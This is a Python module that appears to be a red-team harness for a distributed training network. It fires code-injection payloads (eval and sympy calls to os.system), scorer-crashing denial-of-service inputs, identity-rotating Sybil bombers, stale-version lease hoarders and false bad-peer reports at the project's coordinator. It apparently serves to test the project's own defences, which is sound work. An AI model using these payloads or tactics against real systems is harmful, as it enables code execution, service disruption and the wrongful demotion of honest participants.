"""Issue 26's attackers: scorer bombs in well-formed groups, stale-version hoarders, and
demoters who file bad-chunk reports against honest relays."""

from __future__ import annotations

import itertools
import time
import traceback
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import trio

from echo.node.config import NodeConfig
from echo.p2p.host import open_host
from echo.p2p.identity import Identity
from echo.protocol import broadcast as b
from echo.protocol import ids, signing
from echo.protocol import messages as m
from echo.tools.attackers.common import (
    RETRY_S,
    Stats,
    call_rpc,
    connect,
    fetch_job_info,
    fetch_manifest,
    listen_addrs,
)
from echo.tools.attackers.network import run_node

# Scorer bombs in flight at once. Each fresh identity gets one lease (a node earns more with
# accepted groups), so more bombers means more bombs per second at the shared scoring slot.
BOMBERS = 4
# A bomber that got this many replies in a row without a lease, or one refusal that names its
# identity (budget spent, excluded), starts over as someone else: identities are free.
BOMBER_EMPTY_REPLIES = 5
# The finding's hoarders had 21 accepted groups; a node's lease quota grows by one per 3 valid
# groups (``[verification] lease_quota_ramp``), so 3 buys a quota of 2: the three hold 6 of
# the default window of 8. Few enough to earn within a quick benchmark's settling time on the
# attackers' shared core.
STALE_HOARDERS = 3
STALE_WARM_GROUPS = 3
# A turned hoarder sends its stale submission this long before the grant's deadline: the
# leases stay out of the job's window for as long as they can without expiring. With 3 s, a
# coordinator slowed by the other attackers (2-3 s per call) got it after the deadline.
STALE_HOLD_MARGIN_S = 8.0
# The finding's demotion needed bad-chunk reports from 3 registered identities.
DEMOTERS = 4
DEMOTE_EVERY_S = 2.0


def bomb_texts(room: int, marker_dir: Path | None = None) -> list[tuple[str, str]]:
    """Hostile completions, ``(name, text)``, each at most ``room`` characters (the longest
    that fits a lease; longer payloads are left out).

    Most are the answer in ``<answer>`` tags, which is what the gym and math scorers extract
    (:func:`echo.tasks.rewards.final_answer`). The code payloads write a file under
    ``marker_dir`` (that they do is the proof they ran outside a sandbox: it has no
    filesystem); without one they only reach for ``os``.
    """

    def tag(s: str) -> str:
        return f"<answer>{s}</answer>"

    inner = room - len(tag(""))

    def mark(name: str) -> str:
        return str(marker_dir / name) if marker_dir is not None else f"/nonexistent/{name}"

    texts = [
        # eval() in spiral_matrix, string_insertion, n_queens, binary_matrix: the finding's
        # reproduction, the coordinator's pid written to a file.
        (
            "eval_write",
            tag(f"open({mark('eval_write')!r},'w').write(str(__import__('os').getpid()))"),
        ),
        ("eval_system", tag(f"__import__('os').system('touch {mark('eval_system')}')")),
        # sympy's parse_expr (countdown, puzzle24, polynomial_multiplication, integration)
        # evaluates its input with builtins in reach.
        ("sympy_code", tag(f"x+__import__('os').system('touch {mark('sympy_code')}')")),
        # A power tower: eval and sympy try to compute it; math-verify's LaTeX one too.
        ("power_tower", tag("9**9**9**9")),
        ("latex_tower", tag("\\boxed{9^{9^{9^{9^{9}}}}}")),
        ("factorial", tag("\\boxed{(10^{10^{10}})!}")),
        # Memory and time in the scorer's process.
        ("memory", tag("[0]*10**12")),
        ("sleep", tag("__import__('time').sleep(10**6)")),
        ("spin", tag("[x for x in iter(int,1)]")),
        ("recursion", tag("(lambda f:f(f))(lambda f:f(f))")),
        # Deep nesting: parsers and sympy's transformations recurse per level.
        ("deep_brackets", tag("[" * (inner // 2) + "]" * (inner // 2))),
        ("deep_parens", tag("(" * (inner // 2 - 1) + "1" + ")" * (inner // 2 - 1))),
        ("deep_latex", "\\boxed{" + "{" * ((room - 8) // 2) + "}" * ((room - 8) // 2) + "}"),
        ("unary_chain", tag("-" * (inner - 1) + "1")),
        # The longest text a lease admits: a huge number and a last line without tags.
        ("long_digits", tag("9" * inner)),
        ("long_line", "x" * room),
    ]
    return [(name, text) for name, text in texts if len(text) <= room]


class Encoder:
    """Token ids the coordinator decodes back to a given text, for the job's model: the byte
    tokenizer of the tiny model, or an ``hf`` model's own tokenizer (its local path: on
    loopback the attacker shares the coordinator's disk)."""

    def __init__(self, model: dict[str, Any]) -> None:
        from echo.models.spec import ModelSpec, decode_completion, eos_token_id, load_tokenizer

        self.spec = ModelSpec.from_dict(model)
        self.tokenizer = None if self.spec.kind == "tiny" else load_tokenizer(self.spec)
        self.eos = eos_token_id(self.spec)
        self._decode = decode_completion

    def encode(self, text: str) -> list[int]:
        if self.tokenizer is None:
            from echo.models.tokenizer import encode

            return encode(text)
        return list(self.tokenizer(text, add_special_tokens=False).input_ids)

    def decode(self, token_ids: list[int]) -> str:
        return self._decode(self.spec, token_ids, self.tokenizer)

    def completion(self, text: str, max_new_tokens: int) -> m.CompletionRecord:
        """``text`` as one completion a lease of ``max_new_tokens`` admits: ended by EOS when it
        fits, else cut to exactly ``max_new_tokens`` (finish "length", no EOS), as a real
        engine reports them. Log-probs are made up: the coordinator only bounds them."""
        ids_ = [i for i in self.encode(text) if i != self.eos]
        if len(ids_) < max_new_tokens:
            ids_, finish = [*ids_, self.eos], "stop"
        else:
            ids_, finish = ids_[:max_new_tokens], "length"
        return m.CompletionRecord(
            token_ids=m.pack_tokens(ids_),
            logprobs=m.pack_logprobs([-1.0] * len(ids_)),
            finish_reason=finish,
        )


def bomb_submission(
    lease: m.Lease, manifest: m.Manifest, encoder: Encoder, texts: list[str]
) -> m.Submission:
    """A well-formed group for ``lease`` at the manifest's version whose completions are
    ``texts`` (cycled to the group's size)."""
    return m.Submission(
        lease_id=lease.lease_id,
        job_id=lease.job_id,
        version=manifest.version,
        engine="torch",
        state_digest=manifest.state_digest,
        completions=[
            encoder.completion(texts[i % len(texts)], lease.sampling.max_new_tokens)
            for i in range(lease.group_size)
        ],
        gen_seconds=0.5,
    )


async def bomb(args, stats: Stats) -> None:
    """:data:`BOMBERS` identities submitting scorer bombs, each replaced when it is shut out."""
    groups = itertools.count()
    stats.data.update(groups_sent=0, groups_accepted=0)

    async def bomber() -> None:
        while True:
            try:
                await _bomb_as(Identity.generate(), args, stats, groups)
            except Exception as exc:  # noqa: BLE001 (an attacker carries on as someone else)
                stats.add("errors")
                stats.count("crashes", type(exc).__name__)
                if stats.data["crashes"][type(exc).__name__] <= 3:
                    traceback.print_exception(exc)
            await trio.sleep(0.2)

    async with trio.open_nursery() as nursery:
        for _ in range(BOMBERS):
            nursery.start_soon(bomber)


async def _bomb_as(ident: Identity, args, stats: Stats, groups: Iterator[int]) -> None:
    """One identity's bombing, until the coordinator stops serving it."""
    async with open_host(ident, listen_addrs(), pubsub=False) as host:
        peer = await connect(host, args.coordinator, stats)
        if peer is None:
            await trio.sleep(RETRY_S)
            return
        job = await fetch_job_info(host, peer, ident, args.job, stats)
        if job is None:
            await trio.sleep(RETRY_S)
            return
        stats.add("identities")
        encoder = Encoder(job.model)
        empty = 0
        while empty < BOMBER_EMPTY_REPLIES:
            manifest = await fetch_manifest(host, peer, args.job, stats)
            if manifest is None:
                empty += 1
                await trio.sleep(1.0)
                continue
            req = m.LeaseRequest(
                job_id=args.job,
                max_leases=8,
                have_version=manifest.version,
                timestamp=time.time(),
            )
            data = await call_rpc(
                host, peer, ids.PROTO_LEASE, signing.seal_record(ident.private_key, req), stats
            )
            reply = m.decode(m.LeaseReply, data) if data is not None else None
            if reply is None or not reply.leases:
                empty += 1
                await trio.sleep(max(0.5, min(reply.retry_after_s if reply else 1.0, 5.0)))
                continue
            empty = 0
            stats.add("leases_held", len(reply.leases))
            for sealed in reply.leases:
                lease = signing.open_record(sealed, m.Lease)[1]
                payloads = bomb_texts(lease.sampling.max_new_tokens - 1, args.marker_dir)
                # Each group starts at another payload: the sandbox gives up on a group after
                # two texts killed its scorer, so every payload gets to go first in some group.
                k = next(groups)
                texts = [payloads[(k + i) % len(payloads)][1] for i in range(len(payloads))]
                sub = bomb_submission(lease, manifest, encoder, texts)
                got = await call_rpc(
                    host,
                    peer,
                    ids.PROTO_SUBMIT,
                    signing.seal_record(ident.private_key, sub),
                    stats,
                    timeout=60.0,
                )
                stats.add("groups_sent")
                if got is None:
                    return
                verdict = m.decode(m.SubmitReply, got)
                stats.count("verdicts", verdict.reason)
                if verdict.accepted:
                    stats.add("groups_accepted")
                # "3 of 8 completions scored 0: scorer_crashed, scorer_timeout"
                for outcome in verdict.detail.partition(": ")[2].split(", "):
                    if outcome:
                        stats.count("outcomes", outcome)
                if verdict.reason in ("rate_limited", "node_excluded"):
                    return  # this identity is spent: come back as someone else


def _stale_hoarder(cfg: NodeConfig, stats: Stats, warm_groups: int) -> Any:
    """A stale-version hoarder node (imported late, as in :func:`_liar`)."""
    from echo.node.worker import Node

    class StaleHoarder(Node):
        """A real node that earns a quota with honest groups, then hoards: it holds each grant's
        leases until just before their deadline and sends one stale-version submission for the
        first, nothing for the rest."""

        def __init__(self, cfg: NodeConfig, stats: Stats, warm_groups: int) -> None:
            super().__init__(cfg)
            self.attack_stats, self.warm_groups = stats, warm_groups
            self.turned = False
            self.staleness = 0

        async def _lease_loop(self, job: m.JobInfo, vocab: int, sync, shared) -> None:
            self.staleness = job.staleness
            await super()._lease_loop(job, vocab, sync, shared)

        async def _submit(self, payload: bytes) -> m.SubmitReply | None:
            reply = await super()._submit(payload)
            if reply is not None and not self.turned:
                self.attack_stats.add("warm_accepted" if reply.accepted else "warm_rejected")
                if self.stats.accepted >= self.warm_groups:
                    self.turned = True
                    self.attack_stats.add("turned")
            return reply

        async def _work(self, work: list[tuple[m.Lease, list[int]]], sync) -> None:
            stale = sync.version - self.staleness - 1
            if not self.turned or stale < 0:
                await super()._work(work, sync)
                return
            leases = [lease for lease, _ in work]
            self.attack_stats.add("grants")
            self.attack_stats.add("leases_held", len(leases))
            hold = min(lease.deadline for lease in leases) - time.time() - STALE_HOLD_MARGIN_S
            await trio.sleep(max(0.0, hold))
            sub = m.Submission(
                lease_id=leases[0].lease_id,
                job_id=leases[0].job_id,
                version=stale,
                engine=self.engine_slot.reported,
                state_digest=sync.digest,
                completions=[
                    m.CompletionRecord(
                        token_ids=m.pack_tokens([2]),
                        logprobs=m.pack_logprobs([-1.0]),
                        finish_reason="stop",
                    )
                ],
                gen_seconds=0.1,
            )
            reply = await self._submit(self.encode_submission(sub))
            if reply is not None:
                self.attack_stats.count("verdicts", reply.reason)

    return StaleHoarder(cfg, stats, warm_groups)


async def stale(args, stats: Stats) -> None:
    stats.data.update(warm_accepted=0, turned=0, grants=0)
    async with trio.open_nursery() as nursery:
        for i in range(STALE_HOARDERS):
            cfg = NodeConfig(
                coordinator=args.coordinator,
                data_dir=args.data_dir / f"stale-{i}",
                engine="torch",
                threads=1,
                leases_at_once=8,
                listen=listen_addrs()[0],
            )
            stats.add("identities")
            nursery.start_soon(
                run_node, lambda cfg=cfg: _stale_hoarder(cfg, stats, args.warm_groups), stats
            )


async def demote(args, stats: Stats) -> None:
    """:data:`DEMOTERS` registered identities reporting every ``--peer`` for bad chunks."""
    targets = [addr.rsplit("/p2p/", 1)[1] for addr in args.peer if "/p2p/" in addr]
    stats.data.update(reports_acked=0, reports_refused=0)

    async def demoter() -> None:
        ident = Identity.generate()
        async with open_host(ident, listen_addrs(), pubsub=False) as host:
            peer = await connect(host, args.coordinator, stats, tries=1 << 30)
            stats.add("identities")
            job = None
            while True:
                job = await fetch_job_info(host, peer, ident, args.job, stats) or job
                for _ in range(15):  # registering again now and then keeps the node row alive
                    version = max(0, job.current_version if job else 0)
                    manifest = await fetch_manifest(host, peer, args.job, stats)
                    if manifest is not None:
                        version = manifest.version
                    for target in targets:
                        report = b.BadPeerReport(
                            job_id=args.job,
                            version=version,
                            peer_id=target,
                            reason="bad_chunk",
                            chunk_index=0,
                            detail="chunk hash mismatch",
                        )
                        got = await call_rpc(
                            host,
                            peer,
                            ids.PROTO_BAD_PEER,
                            signing.seal_record(ident.private_key, report),
                            stats,
                        )
                        stats.add("reports_acked" if got is not None else "reports_refused")
                    await trio.sleep(DEMOTE_EVERY_S)

    async with trio.open_nursery() as nursery:
        for _ in range(DEMOTERS):
            nursery.start_soon(demoter)
